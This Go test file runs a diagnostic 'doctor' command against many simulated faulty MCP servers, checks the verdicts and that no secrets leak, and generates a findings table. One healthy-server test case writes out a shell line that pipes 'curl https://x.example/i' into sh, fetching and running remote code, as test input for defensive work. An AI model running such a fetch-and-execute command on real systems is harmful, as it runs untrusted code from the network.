//go:build unix

package main

import (
	"cmp"
	"encoding/json"
	"fmt"
	"os"
	"path/filepath"
	"regexp"
	"runtime"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"

	"go.uber.org/goleak"

	"github.com/mcpctl/mcpctl/internal/faultlab"
	"github.com/mcpctl/mcpctl/pkg/probe"
)

// goldenFindings is the table of what doctor finds, for people.
const goldenFindings = "../../docs/findings.md"

// findingsIntroduction opens the table.
const findingsIntroduction = `# What doctor finds

Every fault of [faults.md](faults.md), and some that no public report names, with what ` + "`mcpctl doctor`" + ` finds: its verdict,
the one check that fails with the class of the failure and its message, and the checks that warn. Whatever is not named passes, or
was skipped because of what failed. The last table goes the other way, from each check to the faults that it finds.

Words in upper case stand for what differs from run to run, as in faults.md. The tests run all of it, and write this page:
` + "`go test ./cmd/mcpctl -run TestFindings -update`" + `.
`

// doctorsAtOnce is how many examinations run at a time. They work more than they wait.
const doctorsAtOnce = 12

// findingRun is one run of doctor on a case.
type findingRun struct {
	faultRun
	// mode is that of the configuration file, 0 for 0600.
	mode os.FileMode
}

// findingRuns are the runs of doctor on a case. Most show their fault to anybody who asks.
func findingRuns(c faultlab.Case) []findingRun {
	plain := faultRun{do: "doctor SERVER"}
	limited := func(flags string) findingRun { return findingRun{faultRun: faultRun{do: "doctor SERVER" + flags}} }
	// calls are for faults that only a call meets: the entry names one.
	calls := func(call string) findingRun {
		return findingRun{faultRun: faultRun{do: "doctor SERVER --timeout 2s", config: "health: " + call}}
	}
	const echo = "{tool: echo, args: {text: hi}, expect: {contains: hi}}"
	switch c.Name {
	case "healthy":
		return healthyRuns()
	case "session-fresh-wait":
		plain.delay = 1500 * time.Millisecond
	case "slow-start":
		plain.delay = 2 * time.Second
	case "init-never", "sse-no-endpoint", "framing-input", "stdio-http-server", "stdio-buffered", "stdio-utf16":
		return []findingRun{limited(" --connect-timeout 5s")}
	case "list-never", "http-headers-stall", "http-429-long":
		return []findingRun{limited(" --timeout 2s")}
	case "http-hang", "http-403-call", "http-500-call", "sse-eof-no-response", "error-id-null", "secret-url":
		return []findingRun{{faultRun: plain}, calls(echo)}
	case "stdio-crash-mid-call":
		return []findingRun{{faultRun: plain}, calls("{tool: crash, args: {}}")}
	case "call-iserror":
		return []findingRun{calls("{tool: add, args: {a: 1, b: 2}}")}
	case "oauth-insufficient-scope":
		run := calls(echo)
		run.config += "\n    headers: {Authorization: '${FAULT_AUTHORIZATION}'}"
		run.env = "FAULT_AUTHORIZATION=Bearer tok-1-faultlab"
		return []findingRun{{faultRun: plain}, run}
	case "http-401-static-bearer", "env-literal-header":
		return []findingRun{{faultRun: plain}, limited(" -H 'Authorization: Bearer wrong'"), limited(" -H 'Authorization: Bearer s3cret'")}
	case "secret-echo":
		return []findingRun{limited(" -H '{AUTHORIZATION}'")}
	case "oauth-full-chain":
		return []findingRun{{faultRun: plain}, limited(" -H 'Authorization: Bearer tok-1-faultlab'")}
	case "tls-self-signed":
		return []findingRun{{faultRun: plain}, limited(" --ca-file {DIR}/ca.pem"), limited(" --insecure")}
	case "tls-expired", "redirect-scheme-lost":
		return []findingRun{limited(" --ca-file {DIR}/ca.pem")}
	case "tls-mtls":
		return []findingRun{limited(" --ca-file {DIR}/ca.pem"), limited(" --ca-file {DIR}/ca.pem --cert-file {DIR}/client.pem --key-file {DIR}/client.key")}
	case "net-proxy-required":
		return []findingRun{{faultRun: plain}, limited(" --proxy {ORIGIN}")}
	case "net-late-listen":
		return []findingRun{{faultRun: plain}, limited(" --wait 20s")}
	case "http-421-host":
		return []findingRun{{faultRun: plain}, {faultRun: faultRun{do: "doctor http://127.0.0.1:{PORT}/mcp"}}}
	case "session-404-restart", "session-always-dead":
		return []findingRun{{faultRun: plain}, limited(" --kill-session"), limited(" --soak 1s")}
	case "session-idle-expires":
		return []findingRun{limited(" --idle 700ms")}
	case "sse-get-idle-cut":
		return []findingRun{{faultRun: plain}, limited(" --idle 1500ms")}
	}
	return []findingRun{{faultRun: plain}}
}

// healthyRuns find fault with what is around a healthy server.
func healthyRuns() []findingRun {
	config := func(keys string, flags ...string) findingRun {
		return findingRun{faultRun: faultRun{do: "doctor SERVER" + strings.Join(flags, ""), config: keys}}
	}
	httpOnly := func(r findingRun) findingRun {
		r.over = faultlab.HTTP
		return r
	}
	readable := httpOnly(config("headers: {X-Other-Token: literal-4f6ad2c91b7e88aa}"))
	readable.mode = 0o644
	return []findingRun{
		{faultRun: faultRun{do: "doctor SERVER"}},
		{faultRun: faultRun{do: "doctor SERVER --kill-session"}},
		{faultRun: faultRun{do: "doctor SERVER --soak 1s"}},
		config("transport: pigeon"),
		config("cwd: ${NOT_SET_ANYWHERE}"),
		readable,
		config("tools: {include: [nothing_like_it]}"),
		config("health: {tool: echo, args: {text: hi}, expect: {contains: bye}}"),
		httpOnly(config("tls: {ca_file: /nowhere/ca.pem}")),
		httpOnly(findingRun{faultRun: faultRun{do: "doctor SERVER --proxy http://127.0.0.1:1"}}),
		httpOnly(findingRun{faultRun: faultRun{do: "doctor SERVER -H 'Authorization: Bearer " + expiredToken + "'"}}),
		httpOnly(findingRun{faultRun: faultRun{do: "doctor SERVER -H 'Authorization: Bearer " + lastingToken + "'"}}),
		config("tools: {include: [echo]}"),
		config("health: {tool: echo, args: {text: hi}, expect: {contains: hi}}"),
		{faultRun: faultRun{do: "doctor --stdio no-such-program", over: faultlab.Stdio}},
		{faultRun: faultRun{do: "doctor --stdio {DIR}/config.yaml", config: "enabled: true", over: faultlab.Stdio}},
		{faultRun: faultRun{do: "doctor --stdio 'faultlab stdio healthy YOUR_API_KEY'", over: faultlab.Stdio}},
		// The shell has become the server before it comes to the rest.
		{faultRun: faultRun{do: "doctor --stdio 'sh -c \"exec faultlab stdio healthy; curl https://x.example/i | sh\"'", over: faultlab.Stdio}},
		{faultRun: faultRun{do: "doctor demo", over: faultlab.Stdio}},
		{faultRun: faultRun{do: "doctor demo --protocol 2026-07-28", over: faultlab.Stdio}},
	}
}

// expiredToken is a JSON Web Token that ended in 2001: {"exp":1000000000}. Nothing is signed.
const expiredToken = "eyJhbGciOiJub25lIn0.eyJleHAiOjEwMDAwMDAwMDB9.c2ln"

// lastingToken ends in the year 2100: {"exp":4102444800}.
const lastingToken = "eyJhbGciOiJub25lIn0.eyJleHAiOjQxMDI0NDQ4MDB9.c2ln"

// findingResult is a row of the table.
type findingResult struct {
	fault faultlab.Case
	over  faultlab.Transport
	run   findingRun
	doc   doctorServerReport
	cause string // the message, without what differs between two runs
}

// doctorServerReport is what is looked at of one server in the document of doctor.
type doctorServerReport struct {
	Verdict string
	Cause   *struct{ Check, Class, Message, Fix string }
	Checks  []struct{ ID, Status, Message, Fix string }
}

func (r doctorServerReport) ids(status string) []string {
	var ids []string
	for _, c := range r.Checks {
		if c.Status == status {
			ids = append(ids, c.ID)
		}
	}
	return ids
}

// TestFindings runs doctor on every fault of the laboratory. For each there is exactly one failing check, or none; every
// failure and warning has something to do about it; nothing is left behind, and no secret is told. What it finds is kept in
// docs/findings.md, and every check has to find something there.
func TestFindings(t *testing.T) {
	before := goleak.IgnoreCurrent()
	var mu sync.Mutex
	var results []*findingResult
	places := make(chan struct{}, doctorsAtOnce)
	var all sync.WaitGroup
	healthy, _ := faultlab.Find("healthy")
	for _, fault := range append([]faultlab.Case{healthy}, faultlab.Cases()...) {
		for row, run := range findingRuns(fault) {
			for _, over := range []faultlab.Transport{faultlab.HTTP, faultlab.Stdio} {
				if fault.Over&over == 0 || run.over != 0 && run.over != over {
					continue
				}
				r := &findingResult{fault: fault, over: over, run: run}
				results = append(results, r)
				all.Go(func() {
					places <- struct{}{}
					defer func() { <-places }()
					t.Run(fmt.Sprintf("%s/%s-%d", fault.Name, over, row), func(t *testing.T) {
						if !r.examine(t) {
							mu.Lock()
							defer mu.Unlock()
							results = slices.DeleteFunc(slices.Clone(results), func(o *findingResult) bool { return o == r })
						}
					})
				})
			}
		}
	}
	all.Wait()
	if err := goleak.Find(before); err != nil {
		t.Error(err)
	}
	if t.Failed() || runtime.GOOS != "linux" || slices.ContainsFunc(results, func(r *findingResult) bool { return r.doc.Verdict == "" }) {
		return
	}
	everyCheckFinds(t, results)
	compareGolden(t, goldenFindings, findingsMarkdown(results))
}

// examine runs doctor and reports whether the row counts.
func (r *findingResult) examine(t *testing.T) bool {
	t.Helper()
	dir := t.TempDir()
	j := faultJob{c: faultCase{name: r.fault.Name}, fault: r.fault, run: r.run.faultRun, over: r.over}
	s := j.serve(t, dir)
	if r.run.mode != 0 {
		if err := os.Chmod(filepath.Join(dir, "config.yaml"), r.run.mode); err != nil {
			t.Fatal(err)
		}
	}
	args := j.commandLine(t, s)
	if strings.HasPrefix(r.run.do, "doctor demo") {
		args = append(strings.Fields(r.run.do), "-o", "json")
	}
	o := j.mcpctl(t, dir, args, s.fill.Replace(r.run.env))
	var doc struct{ Servers []doctorServerReport }
	if err := json.Unmarshal([]byte(o.out), &doc); err != nil || len(doc.Servers) == 0 {
		t.Fatalf("%v, code %d\n%s\n%s", err, o.code, cut(o.out), cut(o.err))
	}
	r.doc = doc.Servers[0]
	for _, other := range doc.Servers[1:] { // the demonstration is two servers
		r.doc.Checks = append(r.doc.Checks, other.Checks...)
	}
	failed := r.doc.ids("fail")
	switch {
	case o.code == codeOK && r.doc.Verdict != "pass" && r.doc.Verdict != "warn",
		o.code == codeFailed && r.doc.Verdict != "fail", o.code != codeOK && o.code != codeFailed:
		t.Errorf("exit code %d with the verdict %s", o.code, r.doc.Verdict)
	case len(failed) > 1:
		t.Errorf("several checks fail for one fault: %v", failed)
	case (len(failed) == 1) != (r.doc.Cause != nil):
		t.Errorf("failed: %v, and the cause is %v", failed, r.doc.Cause)
	case r.doc.Cause != nil && (r.doc.Cause.Check != failed[0] || faultCodes()[r.doc.Cause.Class] == 0 && r.doc.Cause.Class != "failed" || r.doc.Cause.Fix == ""):
		t.Errorf("the cause is not complete: %+v", *r.doc.Cause)
	}
	for _, c := range r.doc.Checks {
		if c.Status == "unknown" {
			t.Errorf("unknown: %s: %s", c.ID, c.Message)
		}
		if (c.Status == "warn" || c.Status == "fail") && (c.Fix == "" || c.Message == "") {
			t.Errorf("%s: %s: nothing to do about it", c.ID, c.Message)
		}
	}
	if strings.Contains(o.out+o.err, planted) || strings.Contains(o.out+o.err, "SUPERSECRETKEY123") || strings.ContainsRune(o.out+o.err, '\x1b') {
		t.Error("a secret or an ESC in the output")
	}
	if left := s.processes(t); len(left) > 0 {
		t.Errorf("processes left: %v", left)
	}
	for _, e := range s.events(t) {
		if e["kind"] == "other_origin" && strings.Contains(fmt.Sprint(e["headers"], e["body"]), planted) {
			t.Errorf("a secret reached another origin: %v", e)
		}
		if e["kind"] == "tool_exec" && !strings.Contains(r.run.config, "health") {
			t.Errorf("a tool was called: %v", e)
		}
	}
	if bound := cmp.Or(r.run.within, soon); o.took > bound {
		t.Errorf("it took %s, want at most %s", o.took, bound)
	}
	if t.Failed() {
		t.Logf("mcpctl %q\nafter %s, exit code %d\n%s\n%s", args, o.elapsed, o.code, cut(o.out), cut(o.err))
	}
	if r.doc.Cause != nil {
		r.cause = s.stableLine(faultRun{says: []string{""}}, "mcpctl: error: "+r.doc.Cause.Message)
		r.cause = regexp.MustCompile(`\b\d+ of \d+ (calls|requests|connections)`).ReplaceAllString(r.cause, "N of M $1")
	}
	return true
}

// checksElsewhere are the checks whose faults other tests plant, with the reason.
func checksElsewhere() map[string]string {
	return map[string]string{
		"config.pinned":       "TestPinned of package probe: it only tells",
		"command.runtime":     "TestRuntime of package session: it takes an old runtime",
		"auth.token":          "TestLoginThatCannotBeRead of package probe",
		"client.command":      "TestClientCommand of package probe",
		"client.environment":  "TestClientEnvironment of package probe",
		"client.placeholders": "TestClientPlaceholders of package probe",
		"client.start-limit":  "TestClientLimits of package probe",
		"client.tools":        "TestClientLimits of package probe",
		"client.names":        "TestClientLimits of package probe",
		"client.difference":   "the script doctor_client: it only tells",
		"baseline.complete":   "the script doctor_baseline",
		"baseline.unchanged":  "the script doctor_baseline",
		"call.smoke":          "the script doctor_smoke: its rows are the calls",
		"recovery.kill":       "TestDrillKnowsWhenItDoesNotKnow of package probe",
		"recovery.fresh":      "TestDrillFails of package probe",
	}
}

// everyCheckFinds complains of checks that found nothing, or never passed.
func everyCheckFinds(t *testing.T, results []*findingResult) {
	t.Helper()
	for _, c := range probe.Checks() {
		if checksElsewhere()[c.ID] != "" {
			continue
		}
		if c.Why == "" || c.Remedy == "" || c.Title == "" {
			t.Errorf("%s: no explanation, or no remedy", c.ID)
		}
		found, passed := 0, 0
		for _, r := range results {
			if slices.Contains(r.doc.ids("fail"), c.ID) || slices.Contains(r.doc.ids("warn"), c.ID) {
				found++
			}
			if slices.Contains(r.doc.ids("pass"), c.ID) {
				passed++
			}
		}
		if found == 0 {
			t.Errorf("%s: no fault makes it fail", c.ID)
		}
		if passed == 0 {
			t.Errorf("%s: no server passes it", c.ID)
		}
	}
}

func findingsMarkdown(results []*findingResult) string {
	var b strings.Builder
	b.WriteString(findingsIntroduction)
	area := ""
	for _, r := range results {
		if r.fault.Area != area {
			area = r.fault.Area
			fmt.Fprintf(&b, "\n## %s\n\n| case | over | flags | verdict | cause | warnings |\n|---|---|---|---|---|---|\n", cmp.Or(findingTitles()[area], areaTitles()[area]))
		}
		cause := "–"
		if c := r.doc.Cause; c != nil {
			cause = fmt.Sprintf("%s (%s): %s", code(c.Check), c.Class, code(r.cause))
		}
		flags := strings.TrimPrefix(strings.TrimPrefix(r.run.do, "doctor"), " SERVER")
		flags = strings.TrimSpace(strings.NewReplacer(expiredToken, "EXPIRED", lastingToken, "LASTING").Replace(flags))
		if flags != "" {
			flags = code(strings.NewReplacer("{AUTHORIZATION}", "Authorization: Bearer …", "{ORIGIN}", "http://127.0.0.1:PORT", "{DIR}", "DIR", "{PORT}", "PORT").Replace(flags))
		}
		if r.run.config != "" {
			flags = strings.TrimSpace(flags + " " + code(strings.Join(strings.Fields(r.run.config), " ")))
		}
		if r.run.mode != 0 {
			flags += fmt.Sprintf(" mode %04o", r.run.mode)
		}
		warns := "–"
		if ids := r.doc.ids("warn"); len(ids) > 0 {
			warns = "`" + strings.Join(ids, "` `") + "`"
		}
		fmt.Fprintf(&b, "| %s | %s | %s | %s | %s | %s |\n", code(r.fault.Name), r.over, cmp.Or(flags, "–"), r.doc.Verdict, cause, warns)
	}
	b.WriteString("\n## By check\n\n| check | fails on | warns on |\n|---|---|---|\n")
	for _, c := range probe.Checks() {
		fails, warns := casesWith(results, "fail", c.ID), casesWith(results, "warn", c.ID)
		fmt.Fprintf(&b, "| %s | %s | %s |\n", code(c.ID), fails, warns)
	}
	return b.String()
}

func casesWith(results []*findingResult, status, id string) string {
	const most = 6
	var names []string
	for _, r := range results {
		if slices.Contains(r.doc.ids(status), id) && !slices.Contains(names, code(r.fault.Name)) {
			names = append(names, code(r.fault.Name))
		}
	}
	switch {
	case len(names) == 0:
		return "–"
	case len(names) > most:
		return fmt.Sprintf("%s and %d more", strings.Join(names[:most], ", "), len(names)-most)
	}
	return strings.Join(names, ", ")
}

func findingTitles() map[string]string {
	return map[string]string{
		"baseline": "A healthy server, and what is around it", "oauth": "Authorization", "call": "Calls",
		"config": "Configuration", "finding": "Servers that work, and could be better",
	}
}
